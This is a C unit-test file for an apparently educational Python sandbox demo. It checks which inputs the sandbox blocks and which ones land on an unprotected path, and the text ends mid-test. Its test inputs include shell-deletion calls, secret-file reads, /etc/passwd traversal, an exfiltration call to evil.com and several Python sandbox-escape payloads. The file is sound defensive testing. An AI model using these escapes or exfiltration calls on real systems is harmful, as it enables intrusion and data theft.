/*
 * test_session.c -- the flow of inputs through the layers, checked through
 * the records a user sees: verdict, deciding layer, rule, offending node and
 * span, effects, filesystem listing, budget, and the trace line.
 */
#include "config.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <jansson.h>

#include "base/arena.h"
#include "fixtures.h"
#include "sandbox/layers.h"
#include "fs/mockfs.h"
#include "sandbox/policy.h"
#include "record/record.h"
#include "base/sbuf.h"
#include "session/session.h"
#include "world/world.h"

static int
setup(void **state)
{
	struct session_opts o = { 0 };

	*state = fx_new(&o);
	return 0;
}

/* Run input on one path; return its record. */
static struct record *
run1(struct fx *f, enum path_id p, const char *input)
{
	return fx_run(f->s, f->a, PATH_BIT(p), p, input);
}

static void
test_essay_code(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_SANDBOX,
	    "round(sum(orders) / len(orders), 2)");
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_string_equal(r->result, "173.33");
	assert_int_equal(r->budget_used, 1);
	assert_int_equal(r->budget_limit, POLICY_DEFAULT_BUDGET);
	assert_string_equal(r->line, "sandboxed code: "
	    "'round(sum(orders) / len(orders), 2)' -> 173.33");
}

static void
test_import_blocked_on_outer_call(void **state)
{
	struct fx *f = *state;
	const char *in = "__import__('os').system('rm report.txt')";
	struct record *r = run1(f, PATH_SANDBOX, in);
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_int_equal(r->layer, LAYER_ALLOWLIST);
	assert_string_equal(r->rule, "calls");
	assert_string_equal(r->reason,
	    "__import__ is not one of sum, len, min, max, round, abs");
	/* the trace line, the reason and the screen say the same words */
	assert_string_equal(r->outcome, "BLOCKED by the allowlist: "
	    "__import__ is not one of sum, len, min, max, round, abs");
	assert_string_equal(r->essay_outcome,
	    "BLOCKED: disallowed function call");
	assert_true(r->has_node);
	assert_string_equal(r->node_type, "Call");
	assert_int_equal(r->node_start, 0);
	assert_int_equal(r->node_end, strlen(in));
	assert_true(fx_has(r, "report.txt"));
	assert_int_equal(r->budget_used, 0);	/* blocked: not charged */
}

static void
test_unsafe_plays_out_damage(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_UNSAFE,
	    "__import__('os').system('rm report.txt')");
	size_t i;
	bool deleted = false;
	assert_int_equal(r->verdict, VERDICT_LANDED);
	assert_string_equal(r->outcome,
	    "LANDED in a throwaway copy: arbitrary code ran; report.txt "
	    "deleted");
	assert_false(fx_has(r, "report.txt"));
	assert_true(fx_has(r, "secrets.txt"));
	for (i = 0; i < r->neffects; i++)
		if (strcmp(r->effects[i].op, "delete") == 0 &&
		    strcmp(r->effects[i].target, "report.txt") == 0) {
			deleted = true;
			assert_true(r->effects[i].simulated);
			assert_false(r->effects[i].denied);
		}
	assert_true(deleted);
	/* The sandbox path's filesystem is its own. */
	r = run1(f, PATH_SANDBOX, "len(orders)");
	assert_true(fx_has(r, "report.txt"));
}

static void
test_unsafe_reads_secret(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_UNSAFE, "open('secrets.txt').read()");
	/* a secret read with no boundary is harm done: LANDED */
	assert_int_equal(r->verdict, VERDICT_LANDED);
	assert_string_equal(r->result, "'API_KEY=sk-live-9f3a2b'");
	assert_string_equal(r->outcome, "LANDED in a throwaway copy: read "
	    "the secret in secrets.txt");
	assert_string_equal(r->effects[0].category, "disclosure");
	r = run1(f, PATH_UNSAFE,
	    "getattr(__builtins__, 'op' + 'en')('secrets.txt').read()");
	assert_int_equal(r->verdict, VERDICT_LANDED);
	/* another file is no secret; a command's read is the tool's job */
	r = run1(f, PATH_UNSAFE, "open('report.txt').read()");
	assert_int_equal(r->verdict, VERDICT_OK);
	r = run1(f, PATH_UNSAFE, "read_file('secrets.txt')");
	assert_int_equal(r->verdict, VERDICT_OK);
	r = run1(f, PATH_SANDBOX, "open('secrets.txt').read()");
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_string_equal(r->reason,
	    "open is not one of sum, len, min, max, round, abs");
}

static void
test_command_allowlist(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_SANDBOX,
	    "delete_file({'path': 'secrets.txt'})");
	assert_int_equal(r->kind, KIND_COMMAND);
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_int_equal(r->layer, LAYER_COMMANDS);
	assert_string_equal(r->reason,
	    "delete_file is not allowed (read_file, write_file are)");
	assert_string_equal(r->line, "sandboxed delete_file: delete_file("
	    "{'path': 'secrets.txt'}) -> BLOCKED by the command allowlist: "
	    "delete_file is not allowed (read_file, write_file are)");
	assert_string_equal(r->essay_outcome,
	    "BLOCKED: command 'delete_file' not on the allowlist");
	assert_int_equal(r->neffects, 1);
	assert_string_equal(r->effects[0].op, "delete");
	assert_string_equal(r->effects[0].target, "secrets.txt");
	assert_true(r->effects[0].denied);
	assert_true(fx_has(r, "secrets.txt"));
	r = run1(f, PATH_UNSAFE, "delete_file({'path': 'secrets.txt'})");
	assert_int_equal(r->verdict, VERDICT_LANDED);
	assert_string_equal(r->outcome,
	    "LANDED in a throwaway copy: deleted secrets.txt");
	assert_false(fx_has(r, "secrets.txt"));
}

static void
test_argument_code_goes_through_policy(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_SANDBOX,
	    "write_file({'path': 'x.txt', 'text': open('secrets.txt').read()})");
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_int_equal(r->layer, LAYER_ALLOWLIST);
	assert_false(fx_has(r, "x.txt"));
	r = run1(f, PATH_SANDBOX,
	    "write_file({'path': 'n.txt', 'text': 'a' * 3})");
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_string_equal(r->outcome, "wrote n.txt");
	r = run1(f, PATH_SANDBOX, "read_file({'path': 'n.txt'})");
	assert_string_equal(r->outcome, "aaa");
}

static void
test_budget_exhaustion(void **state)
{
	struct fx *f = *state;
	struct record *r;
	session_set_budget(f->s, 2);
	r = run1(f, PATH_SANDBOX, "1 + 1");
	assert_int_equal(r->verdict, VERDICT_OK);
	r = run1(f, PATH_SANDBOX, "read_file({'path': 'report.txt'})");
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_int_equal(r->budget_used, 2);
	r = run1(f, PATH_SANDBOX, "2 + 2");
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_int_equal(r->layer, LAYER_BUDGET);
	assert_string_equal(r->reason,
	    "budget exhausted (2 of 2 inputs used)");
	assert_null(r->result);
	r = run1(f, PATH_SANDBOX, "write_file({'path': 'o', 'text': 'x'})");
	assert_int_equal(r->layer, LAYER_BUDGET);
	assert_false(fx_has(r, "o"));
	/* Blocked earlier layers do not reach the budget. */
	r = run1(f, PATH_SANDBOX, "delete_file({'path': 'o'})");
	assert_int_equal(r->layer, LAYER_COMMANDS);
	/* The unsafe path has no budget. */
	r = run1(f, PATH_UNSAFE, "2 + 2");
	assert_string_equal(r->result, "4");
	assert_int_equal(r->budget_limit, 0);
}

/* A snapshot puts back files, names, budget and ledger exactly, on
 * every path, and names made before a reset still work after it. */
static void
test_snapshot_restores_everything(void **state)
{
	struct fx *f = *state;
	const char *w = "write_file({'path': 'out.txt', 'text': 'ok'})";
	struct session_snap *sn;
	struct record *r;
	unsigned used;

	run1(f, PATH_UNSAFE, "n = 1");
	run1(f, PATH_UNSAFE, "double = lambda x: x * 2");
	used = session_budget_used(f->s, PATH_SANDBOX);
	sn = session_snap_take(f->s);
	/* then: a write (ledger), a delete, a new name, budget spent */
	run1(f, PATH_SANDBOX, w);
	run1(f, PATH_UNSAFE, "delete_file({'path': 'secrets.txt'})");
	run1(f, PATH_UNSAFE, "n = 2");
	assert_true(session_budget_used(f->s, PATH_SANDBOX) > used);
	session_reset(f->s, false);	/* (frees the pinned arenas but
					   the snapshot's) */
	session_snap_restore(f->s, sn);
	session_snap_free(f->s, sn);
	assert_int_equal(session_budget_used(f->s, PATH_SANDBOX), used);
	r = run1(f, PATH_UNSAFE, "read_file({'path': 'secrets.txt'})");
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_true(fx_has(r, "report.txt"));
	assert_false(fx_has(r, "out.txt"));
	r = run1(f, PATH_UNSAFE, "n");
	assert_string_equal(r->outcome, "1");
	r = run1(f, PATH_UNSAFE, "double(21)");
	assert_string_equal(r->outcome, "42");
	/* the ledger as it was: the write is new again, not a retry */
	r = run1(f, PATH_SANDBOX, w);
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_int_not_equal(r->layer, LAYER_IDEMPOTENCY);
	assert_int_equal(r->neffects, 1);
}

static void
test_idempotency(void **state)
{
	struct fx *f = *state;
	const char *w = "write_file({'path': 'out.txt', 'text': 'ok'})";
	struct record *r = run1(f, PATH_SANDBOX, w);
	assert_string_equal(r->outcome, "wrote out.txt");
	assert_int_equal(r->neffects, 1);
	r = run1(f, PATH_SANDBOX, w);
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_int_equal(r->layer, LAYER_IDEMPOTENCY);
	assert_string_equal(r->outcome,
	    "wrote out.txt (idempotent: already done)");
	assert_int_equal(r->neffects, 0);	/* nothing written twice */
	/* Same arguments in another key order are the same operation. */
	r = run1(f, PATH_SANDBOX,
	    "write_file({'text': 'ok', 'path': 'out.txt'})");
	assert_int_equal(r->layer, LAYER_IDEMPOTENCY);
	/* An explicit key reused with different arguments is refused. */
	r = run1(f, PATH_SANDBOX, "write_file({'path': 'a.txt', 'text': '1', "
	    "'idempotency_key': 'k1'})");
	assert_int_equal(r->verdict, VERDICT_OK);
	r = run1(f, PATH_SANDBOX, "write_file({'path': 'a.txt', 'text': '2', "
	    "'idempotency_key': 'k1'})");
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_int_equal(r->layer, LAYER_IDEMPOTENCY);
	assert_string_equal(r->reason, "idempotency key 'k1' was already "
	    "used with different arguments");
	r = run1(f, PATH_SANDBOX, "read_file({'path': 'a.txt'})");
	assert_string_equal(r->outcome, "1");
}

static void
test_surface(void **state)
{
	struct fx *f = *state;
	static const char *const bad[] = {
		"read_file({'path': '../secrets.txt'})",
		"read_file({'path': '/etc/passwd'})",
		"write_file({'path': 'a/../../x', 'text': 'x'})",
		"read_file({'path': ''})",
	};
	size_t i;
	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		struct record *r = run1(f, PATH_SANDBOX, bad[i]);
		assert_int_equal(r->verdict, VERDICT_BLOCKED);
		assert_int_equal(r->layer, LAYER_SURFACE);
	}
	{
		struct record *r = run1(f, PATH_SANDBOX,
		    "read_file({'path': '/etc/passwd'})");
		assert_string_equal(r->reason, "path '/etc/passwd' is "
		    "absolute: outside the workspace");
	}
}

static void
test_network_even_when_allowed(void **state)
{
	struct fx *f = *state;
	static const char *const cmds[] = { "read_file", "http_get", NULL };
	struct policy p = *policy_preset("essay");
	struct record *r;
	p.commands = cmds;
	session_set_policy(f->s, &p);
	r = run1(f, PATH_SANDBOX,
	    "http_get({'url': 'https://evil.com/x', 'body': 'secrets'})");
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_int_equal(r->layer, LAYER_NETWORK);
	assert_string_equal(r->reason,
	    "host 'evil.com' is not reachable (no network)");
	assert_true(r->effects[0].denied);
	session_set_policy(f->s, policy_preset("essay"));
}

static void
test_bad_command_arguments(void **state)
{
	struct fx *f = *state;
	static const char *const bad[] = {
		"read_file(1)",
		"read_file({'path': 1})",
		"read_file({})",
		"read_file({'path': 'report.txt', 'mode': 'w'})",
		"read_file()",
		"read_file({'path': 'a'}, {'path': 'b'})",
	};
	size_t i;
	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		struct record *r = run1(f, PATH_SANDBOX, bad[i]);
		assert_int_equal(r->verdict, VERDICT_ERROR);
		assert_int_equal(r->layer, LAYER_COMMANDS);
		assert_non_null(strstr(r->reason, "TypeError"));
		r = run1(f, PATH_UNSAFE, bad[i]);
		assert_int_equal(r->verdict, VERDICT_ERROR);
	}
}

static void
test_errors_are_records(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_SANDBOX, "1 +");
	assert_int_equal(r->verdict, VERDICT_ERROR);
	assert_int_equal(r->layer, LAYER_PARSE);
	assert_non_null(strstr(r->reason, "SyntaxError"));
	r = run1(f, PATH_SANDBOX, "1 / 0");
	assert_int_equal(r->verdict, VERDICT_ERROR);
	assert_int_equal(r->layer, LAYER_EVAL);
	assert_string_equal(r->reason, "ZeroDivisionError: division by zero");
	assert_string_equal(r->node_type, "BinOp");
	/* a builtin the policy does not give is its refusal, as in the
	 * sandbox's world, not a NameError */
	r = run1(f, PATH_SANDBOX, "open");
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_string_equal(r->reason, "open is not one of the builtins it "
	    "allows: sum, len, min, max, round, abs");
	r = run1(f, PATH_SANDBOX, "ordrs");
	assert_string_equal(r->reason,
	    "NameError: name 'ordrs' is not defined");
	r = run1(f, PATH_SANDBOX, "1 << 2");
	assert_int_equal(r->layer, LAYER_ALLOWLIST);
	assert_string_equal(r->rule, "operators");
	/* CPython's message, with the count of digits refused */
	r = run1(f, PATH_UNSAFE, "int('9' * 5000)");
	assert_string_equal(r->reason, "ValueError: Exceeds the limit (4300 "
	    "digits) for integer string conversion: value has 5000 digits; "
	    "use sys.set_int_max_str_digits() to increase the limit");
}

static void
test_deep_nesting_is_an_error_record(void **state)
{
	struct fx *f = *state;
	size_t n = 100000, i;
	char *in = malloc(2 * n + 2);
	struct record *r;
	clock_t t0;
	for (i = 0; i < n; i++)
		in[i] = '(';
	in[n] = '1';
	for (i = 0; i < n; i++)
		in[n + 1 + i] = ')';
	in[2 * n + 1] = '\0';
	t0 = clock();
	r = run1(f, PATH_SANDBOX, in);
	/* A hang guard, not a benchmark: far above the real cost. */
	assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 2.0);
	assert_int_equal(r->verdict, VERDICT_ERROR);
	assert_int_equal(r->layer, LAYER_PARSE);
	memset(in, '-', n);
	in[n] = '1';
	in[n + 1] = '\0';
	r = run1(f, PATH_UNSAFE, in);
	assert_int_equal(r->verdict, VERDICT_ERROR);
	free(in);
}

static void
test_json_record_fields(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_SANDBOX,
	    "__import__('os').system('rm report.txt')");
	struct sbuf b = SBUF_INIT;
	json_error_t err;
	json_t *o;
	static const char *const keys[] = { "step", "path", "input", "kind",
	    "verdict", "layer", "reason", "node", "result", "effects", "fs",
	    "budget", "line" };
	size_t i;

	record_json(r, &b);
	o = json_loads(sbuf_cstr(&b), 0, &err);
	assert_non_null(o);
	for (i = 0; i < sizeof keys / sizeof keys[0]; i++)
		assert_non_null(json_object_get(o, keys[i]));
	assert_string_equal(json_string_value(json_object_get(o, "verdict")),
	    "blocked");
	assert_string_equal(json_string_value(json_object_get(o, "layer")),
	    "allowlist");
	assert_string_equal(json_string_value(json_object_get(
	    json_object_get(o, "node"), "type")), "Call");
	assert_int_equal(json_integer_value(json_object_get(
	    json_object_get(o, "node"), "end")), 40);
	assert_int_equal(json_array_size(json_object_get(o, "fs")), 2);
	assert_true(json_is_null(json_object_get(o, "result")));
	json_decref(o);
	sbuf_free(&b);
}

/* Names share objects across inputs as Python names do: y = x is the same
 * list, a change through one name shows through the other, and a list
 * that holds itself survives being kept. */
static void
test_names_share_objects_across_inputs(void **state)
{
	struct fx *f = *state;
	run1(f, PATH_UNSAFE, "x = [1]");
	run1(f, PATH_UNSAFE, "y = x");
	run1(f, PATH_UNSAFE, "y.append(2)");
	assert_string_equal(run1(f, PATH_UNSAFE, "x")->result, "[1, 2]");
	run1(f, PATH_UNSAFE, "z = {'a': x}");
	run1(f, PATH_UNSAFE, "z['a'][0] = 9");
	assert_string_equal(run1(f, PATH_UNSAFE, "x, y")->result,
	    "([9, 2], [9, 2])");
	assert_string_equal(run1(f, PATH_UNSAFE, "z['a'] is y")->result,
	    "True");
	run1(f, PATH_UNSAFE, "x = 0");
	assert_string_equal(run1(f, PATH_UNSAFE, "y")->result, "[9, 2]");
	/* a lambda's default and a dict view point into the namespace;
	 * later assignments recopy it (under ASan, a use after free) */
	run1(f, PATH_UNSAFE, "s = 'abc' * 3");
	run1(f, PATH_UNSAFE, "g = lambda v=s: v");
	run1(f, PATH_UNSAFE, "k = {'a': s}.items()");
	run1(f, PATH_UNSAFE, "s = 0");
	run1(f, PATH_UNSAFE, "big = 'x' * 3000000");
	run1(f, PATH_UNSAFE, "big = 'y' * 3000000");
	assert_string_equal(run1(f, PATH_UNSAFE, "g()")->result,
	    "'abcabcabc'");
	assert_string_equal(run1(f, PATH_UNSAFE, "k")->result,
	    "dict_items([('a', 'abcabcabc')])");
	run1(f, PATH_UNSAFE, "c = []");
	run1(f, PATH_UNSAFE, "c.append(c)");
	assert_string_equal(run1(f, PATH_UNSAFE, "c")->result, "[[...]]");
	/* augmented assignment changes lists, sets and dicts in place */
	run1(f, PATH_UNSAFE, "p = q = [1]");
	run1(f, PATH_UNSAFE, "p += 'ab'");
	run1(f, PATH_UNSAFE, "p += [p]");
	assert_string_equal(run1(f, PATH_UNSAFE, "q")->result,
	    "[1, 'a', 'b', [...]]");
	run1(f, PATH_UNSAFE, "t = u = {1}");
	run1(f, PATH_UNSAFE, "t |= {2}");
	run1(f, PATH_UNSAFE, "v = w = (1,)");
	run1(f, PATH_UNSAFE, "v += (2,)");
	assert_string_equal(run1(f, PATH_UNSAFE, "u, w")->result,
	    "({1, 2}, (1,))");
}

/* What print() writes is shown, as at Python's prompt: in the trace line,
 * and as the effect's text in the record. */
static void
test_print_shows_output(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_UNSAFE, "print('hi', 1)");
	assert_string_equal(r->result, "None");
	assert_string_equal(r->outcome, "printed 'hi 1'");
	assert_int_equal(r->neffects, 1);
	assert_string_equal(r->effects[0].op, "print");
	assert_string_equal(r->effects[0].text, "hi 1");
	r = run1(f, PATH_UNSAFE, "[print(1), print('a'), 5]");
	assert_string_equal(r->line,
	    "unsafe code: \"[print(1), print('a'), 5]\" -> "
	    "[None, None, 5], printed '1\\na'");
}

/* A session with small memory caps: 16 MiB an input, 40 MiB in all. */
static int
setup_small(void **state)
{
	struct session_opts o = { .memory_input = 16u << 20,
	    .memory_session = 40u << 20 };

	*state = fx_new(&o);
	return 0;
}

/* Past the cap an input is refused at the limits layer, on the unsafe
 * path too (the cap protects the machine), and the session goes on. */
static void
test_memory_cap_per_input(void **state)
{
	static const char bomb[] = "len(['x'*4000000, 'x'*4000000, "
	    "'x'*4000000, 'x'*4000000, 'x'*4000000])";
	struct fx *f = *state;
	enum path_id paths[] = { PATH_UNSAFE, PATH_SANDBOX };
	size_t i;
	for (i = 0; i < 2; i++) {
		struct record *r = run1(f, paths[i], bomb);
		assert_int_equal(r->verdict, VERDICT_BLOCKED);
		assert_int_equal(r->layer, LAYER_LIMITS);
		assert_string_equal(r->reason,
		    "this input would hold more than 16 MiB");
		assert_string_equal(run1(f, paths[i], "len(['x'*4000000, "
		    "'x'*4000000])")->result, "2");
		assert_string_equal(run1(f, paths[i], "orders")->result,
		    "[250.0, 180.0, 90.0]");
	}
	/* nothing of the refused inputs is kept */
	assert_true(session_kept(f->s) < (1u << 20));
}

/* What a command writes to the mock filesystem counts too. */
static void
test_memory_counts_writes(void **state)
{
	struct fx *f = *state;
	struct record *r = run1(f, PATH_SANDBOX, "write_file({'path': "
	    "'big.txt', 'text': 'x' * 9000000})");
	assert_int_equal(r->layer, LAYER_LIMITS);
	assert_false(fx_has(r, "big.txt"));
	r = run1(f, PATH_SANDBOX, "write_file({'path': 'big.txt', "
	    "'text': 'x' * 6000000})");
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_true(fx_has(r, "big.txt"));
}

/* Names bound over many inputs, each under the input's cap, stop at the
 * session's: the refusal says so, and what was kept stays. */
static void
test_memory_cap_per_session(void **state)
{
	struct fx *f = *state;
	char in[64];
	int i, kept = 0, refused = 0;
	for (i = 0; i < 8; i++) {
		struct record *r;
		snprintf(in, sizeof in, "a%d = 'x' * 6000000", i);
		r = run1(f, PATH_UNSAFE, in);
		if (r->verdict == VERDICT_OK)
			kept++;
		else {
			assert_int_equal(r->layer, LAYER_LIMITS);
			assert_non_null(strstr(r->reason, "the session keeps"));
			assert_non_null(strstr(r->reason, "of 40 MiB in all"));
			refused++;
		}
		/* (a block's rounding may add to what is kept) */
		assert_true(session_kept(f->s) <= (41u << 20));
	}
	assert_true(kept >= 4);
	assert_true(refused >= 1);
	assert_string_equal(run1(f, PATH_UNSAFE, "len(a0) + len(a1)")->result,
	    "12000000");
	/* rebinding a big name frees what it kept, even when full */
	run1(f, PATH_UNSAFE, "a0 = a1 = a2 = 0");
	assert_int_equal(run1(f, PATH_UNSAFE, "a7 = 'x' * 6000000")->verdict,
	    VERDICT_OK);
}

/* A commit copies what an input added and keeps what the names held:
 * objects shared between an old name and a new one stay shared. */
static void
test_names_share_after_commit(void **state)
{
	struct fx *f = *state;
	run1(f, PATH_UNSAFE, "a = [1]");
	run1(f, PATH_UNSAFE, "b = [a, a]");
	run1(f, PATH_UNSAFE, "c = 'x' * 2000000");
	run1(f, PATH_UNSAFE, "a.append(2)");
	assert_string_equal(run1(f, PATH_UNSAFE, "b")->result,
	    "[[1, 2], [1, 2]]");
	assert_string_equal(run1(f, PATH_UNSAFE, "b[0] is a")->result, "True");
	run1(f, PATH_UNSAFE, "c = 'y'");
	run1(f, PATH_UNSAFE, "d = 'z' * 2000000");
	run1(f, PATH_UNSAFE, "c = 'w'");
	/* the rebound strings are not kept */
	assert_true(session_kept(f->s) < (12u << 20));
	assert_string_equal(run1(f, PATH_UNSAFE, "len(d), c, b")->result,
	    "(2000000, 'w', [[1, 2], [1, 2]])");
}


/* The commands as students guess them: by position, by keyword and as the
 * essay writes them give the same record, on the sandbox path and with no
 * boundary; a call of the wrong shape shows a call that works. */
static void
test_command_forms(void **state)
{
	struct fx *f = *state;
	static const char *const reads[] = { "read_file('report.txt')",
	    "read_file(path='report.txt')",
	    "read_file({'path': 'report.txt'})" };
	static const enum path_id paths[] = { PATH_SANDBOX, PATH_UNSAFE };
	struct record *r;
	size_t i, k;

	for (k = 0; k < 2; k++)
		for (i = 0; i < 3; i++) {
			r = run1(f, paths[k], reads[i]);
			assert_int_equal(r->kind, KIND_COMMAND);
			assert_int_equal(r->verdict, VERDICT_OK);
			assert_string_equal(r->outcome, "Q2 refunds summary");
			assert_string_equal(r->result, "'Q2 refunds summary'");
		}
	r = run1(f, PATH_SANDBOX, "write_file('out.txt', 'hi')");
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_string_equal(r->outcome, "wrote out.txt");
	/* the same write, keyed the same by the idempotency layer */
	r = run1(f, PATH_SANDBOX, "write_file(path='out.txt', text='hi')");
	assert_string_equal(r->outcome,
	    "wrote out.txt (idempotent: already done)");
	r = run1(f, PATH_SANDBOX, "write_file('out.txt', text='hi')");
	assert_string_equal(r->outcome,
	    "wrote out.txt (idempotent: already done)");
	/* a hint never suggests a call that fails or overwrites the report */
	r = run1(f, PATH_SANDBOX, "write_file('out.txt')");
	assert_int_equal(r->verdict, VERDICT_ERROR);
	assert_int_equal(r->layer, LAYER_COMMANDS);
	assert_string_equal(r->reason, "TypeError: write_file() missing "
	    "required key 'text', e.g. write_file('out.txt', 'hello')");
	r = run1(f, PATH_SANDBOX, "read_file('a', 'b')");
	assert_string_equal(r->reason, "TypeError: read_file() takes one "
	    "argument (path) or its dict, e.g. read_file('report.txt')");
	r = run1(f, PATH_UNSAFE, "list_files()");
	assert_string_equal(r->outcome, "['report.txt', 'secrets.txt']");
	r = run1(f, PATH_UNSAFE, "list_files('.')");
	assert_string_equal(r->outcome, "['report.txt', 'secrets.txt']");
	r = run1(f, PATH_UNSAFE, "delete_file('secrets.txt')");
	assert_string_equal(r->outcome,
	    "LANDED in a throwaway copy: deleted secrets.txt");
	/* a refused command names its target whatever the form */
	r = run1(f, PATH_SANDBOX, "delete_file('report.txt')");
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_string_equal(r->effects[0].target, "report.txt");
}

/* Under the weak presets, with the model engine too: a dunder refusal is
 * BLOCKED by the dunder filter (never a NameError), what only printed is
 * a plain result under every preset (never BYPASSED), and a bypass says
 * which filter let it through. */
static void
test_weak_presets_words(void **state)
{
	struct fx *f = *state;
	struct session_opts o = { .engine = WORLD_ENGINE_MODEL };
	struct session *s = session_new(&o);
	struct record *r;
	const char *in;

	session_set_policy(s, policy_preset("dunder"));
	in = "__import__('os')";
	session_run(s, in, strlen(in), NULL, PATH_BIT(PATH_SANDBOX), f->a,
	    &r);
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_string_equal(r->outcome, "BLOCKED by the dunder filter: "
	    "__import__ is not allowed: names starting with '_' are private");
	in = "open('secrets.txt')";
	session_run(s, in, strlen(in), NULL, PATH_BIT(PATH_SANDBOX), f->a,
	    &r);
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_string_equal(r->rule, "names");
	/* a builtin reached for in a string the code ran is refused by the
	 * same rule, at run time */
	in = "(x for x in ()).gi_frame.f_globals['__builtins__'].eval("
	    "\"__import__('os').system('rm report.txt')\")";
	session_run(s, in, strlen(in), NULL, PATH_BIT(PATH_SANDBOX), f->a,
	    &r);
	assert_int_equal(r->verdict, VERDICT_BLOCKED);
	assert_string_equal(r->reason, "__import__ is not allowed: names "
	    "starting with '_' are private");
	/* the same result, the same word under both weak presets */
	in = "'{0.__class__.__mro__[1].__subclasses__}'.format(0)";
	session_run(s, in, strlen(in), NULL, PATH_BIT(PATH_SANDBOX), f->a,
	    &r);
	assert_int_equal(r->verdict, VERDICT_OK);
	session_set_policy(s, policy_preset("blocklist"));
	session_run(s, in, strlen(in), NULL, PATH_BIT(PATH_SANDBOX), f->a,
	    &r);
	assert_int_equal(r->verdict, VERDICT_OK);
	in = "print('hi')";
	session_run(s, in, strlen(in), NULL, PATH_BIT(PATH_SANDBOX), f->a,
	    &r);
	assert_int_equal(r->verdict, VERDICT_OK);
	assert_string_equal(r->outcome, "printed 'hi'");
	in = "getattr(__builtins__, 'op' + 'en')('secrets.txt').read()";
	session_run(s, in, strlen(in), NULL, PATH_BIT(PATH_SANDBOX), f->a,
	    &r);
	assert_string_equal(r->rule, "bypassed");
	assert_int_equal(r->verdict, VERDICT_BYPASSED);
	assert_string_equal(r->reason, "the blocklist let this through "
	    "\xe2\x80\x94 read the secret in secrets.txt");
	assert_string_equal(r->outcome, "BYPASSED: the blocklist let this "
	    "through \xe2\x80\x94 read the secret in secrets.txt");
	/* the row names the filter, not "allowlist" */
	assert_string_equal(record_layer_word(r), "blocklist");
	session_free(s);
}

/* The file of that name in a record's (or session_files') listing. */
static const struct record_file *
file_named(const struct record_file *fs, size_t n, const char *name)
{
	size_t i;

	for (i = 0; i < n; i++)
		if (strcmp(fs[i].name, name) == 0)
			return &fs[i];
	return NULL;
}

/* Same contents, as a screen tells them: size and digest. */
static bool
same_file(const struct record_file *x, const struct record_file *y)
{
	assert_non_null(x->digest);
	assert_non_null(y->digest);
	return x->size == y->size && memcmp(x->digest, y->digest, 32) == 0;
}

/*
 * The records are the one output a screen needs: with panes reported,
 * they carry the input's tree (one line per node, with span and kind, the
 * offending node among them) or its parse error, and the path's files
 * with what tells a created, changed or deleted file from the baseline --
 * what the UI's AST and files panes draw, without a parser or the mock
 * filesystem of their own.  Without panes, neither is paid for.
 */
static void
test_records_carry_panes(void **state)
{
	struct fx *f = *state;
	struct record *r, *two;
	struct record_file *base;
	const struct record_file *fl;
	const struct record_tree *t;
	const char *in = "__import__('os').system('ls')";
	unsigned char x[32];
	size_t nbase, n, i, hits = 0;

	r = run1(f, PATH_SANDBOX, "1 + 1");
	assert_null(r->tree);
	assert_true(r->nfs > 0);
	assert_null(r->fs[0].digest);

	session_report_panes(f->s);
	nbase = session_files(f->s, PATH_UNSAFE, f->a, &base);
	assert_non_null(file_named(base, nbase, "secrets.txt"));
	assert_non_null(file_named(base, nbase, "report.txt"));

	/* the tree, shared by the input's records, points at the node */
	n = session_run(f->s, in, strlen(in), NULL, PATH_BIT(PATH_UNSAFE) |
	    PATH_BIT(PATH_SANDBOX), f->a, &two);
	assert_int_equal(n, 2);
	r = &two[1];
	assert_int_equal(r->path, PATH_SANDBOX);
	assert_true(r->has_node);
	t = r->tree;
	assert_non_null(t);
	assert_ptr_equal(two[0].tree, t);
	assert_null(t->error_class);
	assert_true(t->nrows >= 4);
	assert_string_equal(t->rows[0].kind, "Expression");
	assert_int_equal(t->rows[0].start, 0);
	assert_int_equal(t->rows[0].end, strlen(in));
	for (i = 0; i < t->nrows; i++)
		if (t->rows[i].kind != NULL &&
		    strcmp(t->rows[i].kind, r->node_type) == 0 &&
		    t->rows[i].start == r->node_start &&
		    t->rows[i].end == r->node_end) {
			hits++;
			assert_non_null(strstr(t->rows[i].text, "Call"));
		}
	assert_int_equal(hits, 1);
	assert_non_null(strstr(t->rows[1].text, "body: Call"));

	/* a parse error instead of a tree */
	r = run1(f, PATH_SANDBOX, "1 +");
	assert_int_equal(r->layer, LAYER_PARSE);
	assert_non_null(r->tree);
	assert_int_equal(r->tree->nrows, 0);
	assert_string_equal(r->tree->error_class, "SyntaxError");
	assert_non_null(r->tree->error_message);
	assert_int_equal(r->tree->error_start, 3);

	/* files: deleted, created, changed (the same size, other bytes),
	 * and a rewrite that changes nothing */
	r = run1(f, PATH_UNSAFE, "delete_file({'path': 'secrets.txt'})");
	assert_null(file_named(r->fs, r->nfs, "secrets.txt"));
	r = run1(f, PATH_UNSAFE, "write_file({'path': 'new.txt', "
